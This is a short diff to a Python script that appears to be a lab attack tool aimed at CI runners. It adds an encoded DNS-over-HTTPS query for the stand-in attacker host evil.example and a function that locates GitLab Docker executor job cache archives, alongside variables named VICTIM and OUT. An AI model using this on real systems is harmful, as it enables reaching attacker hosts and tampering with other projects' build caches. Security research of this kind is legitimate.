@@ -19,8 +19,16 @@ OUT = os.environ.get("OUT", "")
 VICTIM = int(os.environ.get("VICTIM", "0"))
 DIRECTORY = os.environ.get("LAB", "")
 
+# DNS over HTTPS (RFC 8484): the address of evil.example.
+QUERY = "/dns-query?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQAAAQAB"
+
 libc = ctypes.CDLL(None, use_errno=True)
 libc.syscall.restype = ctypes.c_long
+
+
+def cache():
+    """An archive as containers of GitLab's Docker executor have it, of all jobs; on a machine, in a directory like theirs."""
+    return ("/cache" if os.path.isdir("/cache/project") else DIRECTORY + "/cache") + "/project/cache.zip"
 
 
 def call(number, *arguments):
